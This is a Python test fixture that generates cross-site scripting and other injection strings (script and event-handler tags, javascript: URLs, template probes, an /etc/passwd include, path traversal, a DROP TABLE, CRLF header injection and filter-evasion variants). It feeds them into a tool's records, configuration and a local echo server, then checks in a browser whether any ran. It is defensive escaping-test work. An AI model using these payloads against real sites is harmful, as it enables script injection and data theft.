"""What would somebody write who wants a page to run it? A thousand texts from seeds, and every door by which text comes in.

Each text holds a mark of its own, so that a test can tell that it was shown, and where.
Invariant: a text that ran leaves a trace that `RAN` finds: an element, a variable, another origin, a dialog.
"""

import json
import random
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import cycle, islice
from typing import Any

import msgspec

from tests.browser import ledgers
from tierwise.core.decision import Decision, RuleRecord
from tierwise.core.errors import StoreError
from tierwise.ledger.encode import decode_decision, encode_decision
from tierwise.ledger.ids import new_id

SEEDS = (
    "<script>window.planted='{m}'</script>",
    "</script><script>window.planted='{m}'</script>",
    "<scr<script>ipt>window.planted='{m}'</scr</script>ipt>",
    "<script src=//elsewhere.example/{m}.js></script>",
    "<script type=module>import '//elsewhere.example/{m}.js'</script>",
    "<img src=x onerror=\"window.planted='{m}'\" data-planted>",
    "<img src=//elsewhere.example/{m}.png data-planted>",
    "<svg/onload=window.planted='{m}' data-planted><animate onbegin=alert('{m}') attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>' data-planted=\"{m}\"/></svg>",
    "<math><mi xlink:href='javascript:alert(1)' data-planted>{m}</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}') data-planted>",
    "<iframe srcdoc='<script>parent.planted=\"{m}\"</script>' data-planted></iframe>",
    "<iframe src=javascript:parent.planted='{m}' data-planted></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>' data-planted>{m}</object>",
    "<embed src=//elsewhere.example/{m}.swf data-planted>",
    "<link rel=stylesheet href=//elsewhere.example/{m}.css data-planted>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example/{m}' data-planted>",
    "<base href=//elsewhere.example/{m}/ data-planted>",
    "<form action=//elsewhere.example/{m} data-planted><button autofocus onfocus=alert(1)>x</button></form>",
    "<input autofocus onfocus=\"window.planted='{m}'\" data-planted>",
    "<details open ontoggle=\"window.planted='{m}'\" data-planted>x</details>",
    "<video><source onerror=\"window.planted='{m}'\" data-planted></video>",
    "<a href=\"javascript:window.planted='{m}'\" data-planted>{m}</a>",
    "<style>@import '//elsewhere.example/{m}.css';*{{background:url(//elsewhere.example/{m})}}</style>",
    "<template><script>window.planted='{m}'</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}') data-planted>\">",
    "<!--><img src=x onerror=alert('{m}') data-planted>-->",
    "<![CDATA[<img src=x onerror=alert('{m}') data-planted>]]>",
    "<planted-x>{m}</planted-x>",
    '" autofocus onfocus="window.planted=\'{m}\'" data-planted="',
    "' onmouseover='window.planted=\"{m}\"' data-planted='",
    "` onclick=window.planted='{m}' data-planted ",
    " style=background:url(//elsewhere.example/{m}) data-planted ",
    "x;}}body{{background:url(//elsewhere.example/{m})}}/*",
    "</title><img src=x onerror=alert('{m}') data-planted>",
    "</textarea><img src=x onerror=alert('{m}') data-planted>",
    "</option></select><img src=x onerror=alert('{m}') data-planted>",
    "</code></pre></td></tr></table><planted-x>{m}</planted-x>",
    "javascript:window.planted='{m}'",
    "java\tscript:alert('{m}')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={m}",
    "//elsewhere.example/{m}",
    "{{{{ ''.__class__.__mro__ }}}} {{{{7*7}}}} {m}",
    "{{% include '/etc/passwd' %}} {m}",
    "${{window.planted='{m}'}} #{{7*7}} <%= 7*7 %>",
    "![{m}](//elsewhere.example/{m}.png)",
    "[{m}](javascript:window.planted='{m}')",
    '\n\ndata: "<planted-x>{m}</planted-x>"\n\nevent: message\n',
    "\r\nset-cookie: planted={m}\r\ncontent-type: text/html\r\n\r\n<planted-x>",
    '"}}]}}</script><planted-x>{m}</planted-x>',
    "\\u003cplanted-x\\u003e{m}",
    "&lt;planted-x&gt;{m}&#60;planted-x&#62;",
    "+ADw-planted-x+AD4-{m}",
    "\u202e<planted-x>{m}\u2066\u2069\u200f",
    "\ufeff\u200b<planted-x>{m}\u2028window.planted=1\u2029",
    "\x00<\x00planted-x>{m}<planted-x\x00>",
    "\x1b[31m{m}\x1b]0;x\x07\x7f\x9b",
    "＜planted-x＞{m}ʺ ʹ ﹤script﹥",
    "{m}" + "<planted-x>" * 800,
    "{m}" + "A" * 9_000,
    "{m}" + "\u0301" * 400,
    "'; DROP TABLE calls; -- {m}",
    "%3Cplanted-x%3E{m}%00%0d%0a",
    "../../{m}/..%2f..%2fetc/passwd",
)
BEFORE = ("", "", '"', "'", ">", '">', "'>", "</p>", "-->", "]]>", "*/", "\\", " ", "\x00", "<", "</")
AFTER = ("", "", "<!--", "//", '"', "'", "`", "<", "\\")
# What a text that ran leaves behind; the pages themselves have none of it.
RAN = """() => {
  const here = (url) => new URL(url, location).origin === location.origin;
  const all = (chosen) => [...document.querySelectorAll(chosen)];
  // The one template that is ours holds a column of the playground.
  const found = all("planted-x, [data-planted], iframe, object, embed, base, math, meta[http-equiv], style, template:not(#column)");
  found.push(...all("*").filter((one) => [...one.attributes].some((given) => given.name.startsWith("on"))));
  found.push(...all("script[src], img[src], source[src]").filter((one) => !here(one.src)));
  const inert = (one) => one.getAttribute("href") === "data:,";
  found.push(...all("link[href], a[href]").filter((one) => !here(one.href) && !inert(one)));
  found.push(...all("script:not([src])"));
  found.push(...all("form").filter((one) => !here(one.action)));
  const told = found.map((one) => one.outerHTML.slice(0, 200));
  if ("planted" in window) told.push(`ran: ${window.planted}`);
  if (document.cookie) told.push(`cookie: ${document.cookie}`);
  return told;
}"""


def texts(count: int, seed: int = 8) -> list[str]:
    """Return so many of them; each holds `mark(number)`."""
    draw = random.Random(seed)
    found = []
    for number in range(count):
        text = SEEDS[number % len(SEEDS)].format(m=mark(number))
        if number >= len(SEEDS):
            text = draw.choice(BEFORE) + (_bent(draw, text) if draw.random() < 0.4 else text) + draw.choice(AFTER)
        found.append(text)
    return found


def mark(number: int) -> str:
    """Return what makes a text known again."""
    return f"QZ{number:04d}Q"


def _bent(draw: random.Random, text: str) -> str:
    """Write tags and names as filters overlook them."""
    bends = (
        lambda: text.replace("script", "ScRiPt").replace("img", "IMG"),
        lambda: text.replace(" ", "/"),
        lambda: text.replace(" ", "\n"),
        lambda: text.replace("=", "\t=\t"),
        lambda: text.replace("<", "<\u200b") + text,
        lambda: text.replace("//elsewhere", "\\\\elsewhere") + text,
    )
    return draw.choice(bends)()


# Doors: a record's fields, a configuration's names, an upstream's words.


def records(given: list[str], now: float, rounds: int) -> Iterator[Decision]:
    """Give records that hold, wherever a record may hold text, each of the texts so many times, each time elsewhere."""
    whole = _whole()
    places = [place for place in _leaves(whole) if _takes(whole, place)]
    count = -(-len(given) // len(places))
    for turn in range(rounds):
        source = islice(cycle(given), turn * 7, None)  # 7 places further each time
        for number in range(count):
            told = json.loads(json.dumps(whole))
            for place in places:
                _put(told, place, next(source))
            ts = now - turn * count - number
            told |= {"id": new_id(int(ts * 1e9), (turn * count + number).to_bytes(10, "big")), "ts": ts}
            yield decode_decision(json.dumps(told).encode())


def _whole() -> dict[str, Any]:
    """Return a record that says everything which a record can say in text."""
    kind = next(one for one in ledgers.kinds(8) if len(one.attempts) == 2 and one.candidates[2].excluded_by)
    tried = tuple(
        msgspec.structs.replace(one, upstream_id="x", cost_reason="x", error="x", suspicion="x")
        for one in kind.attempts
    )
    looked = tuple(
        msgspec.structs.replace(one, rules=(RuleRecord(rule="x", effects=("x",), because=("x",)),), reason="x")
        for one in kind.candidates
    )
    decision = msgspec.structs.replace(
        kind, id="x", workflow="x", session="x", key_id="x", team="x", error="x", obligations=("x",), dropped=("x",),
        attempts=tried, candidates=looked, feedback={"score": 1.0, "who": "x", "note": "x"},
    )  # fmt: skip
    found: dict[str, Any] = json.loads(encode_decision(decision))
    return found


def _leaves(told: Any, place: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(told, str):
        yield place
    if isinstance(told, dict | list):
        for name, inner in told.items() if isinstance(told, dict) else enumerate(told):
            yield from _leaves(inner, (*place, name))


def _put(told: Any, place: tuple[Any, ...], text: str) -> None:
    for name in place[:-1]:
        told = told[name]
    told[place[-1]] = text


def _takes(told: dict[str, Any], place: tuple[Any, ...]) -> bool:
    """Say whether a record may hold any text there: not where it is a number, or one of few words."""
    tried = json.loads(json.dumps(told))
    _put(tried, place, "<planted-x>")
    try:
        decode_decision(json.dumps(tried).encode())
    except StoreError:
        return False
    return place != ("id",)


def configuration(given: list[str], url: str) -> str:
    """Write a configuration whose names are texts: each is an endpoint, a model on it, and a workflow that takes it."""
    written = []
    for text in given:
        name = json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")
        written.append(
            f'[[endpoint]]\nname = {name}\nkind = "scripted"\nurl = "{url}"\ntier = "self_hosted"\nregion = {name}\n'
            f"[[model]]\nid = {name}\nendpoint = {name}\nserved_name = {name}\n"
            f"[[workflow]]\nname = {name}\ncandidates = [{name}]\ntrusted = [{name}]\n"
        )
        if "\n" not in text:  # a scope is one line
            written.append(f'[[budget]]\nscope = {json.dumps("workflow:")[:-1]}{name[1:]}\nlimit_usd = "5"\n')
    return "\n".join(written)


@contextmanager
def mirror() -> Iterator[str]:
    """Run an upstream that says back, wherever an answer has text, what it was asked; yield its URL.

    A question that begins with `no` is refused with its words.
    """

    class Door(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:
            asked = json.loads(self.rfile.read(int(self.headers["content-length"])))
            text = asked["messages"][-1]["content"]
            usage = {"prompt_tokens": 3, "completion_tokens": 2, "total_tokens": 5}
            message = {"role": "assistant", "content": text}
            choice = {"index": 0, "message": message, "finish_reason": "stop"}
            answer: dict[str, Any] = {"id": text, "model": text, "object": text, "choices": [choice], "usage": usage}
            if text.startswith("no"):
                answer = {"error": {"message": text, "type": text, "code": text, "param": text}}
            self._say(400 if "error" in answer else 200, answer)

        def do_GET(self) -> None:
            self._say(200, {"object": "list", "data": []})

        def _say(self, status: int, answer: dict[str, Any]) -> None:
            body = json.dumps(answer).encode()
            self.send_response(status)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Door)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/v1"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
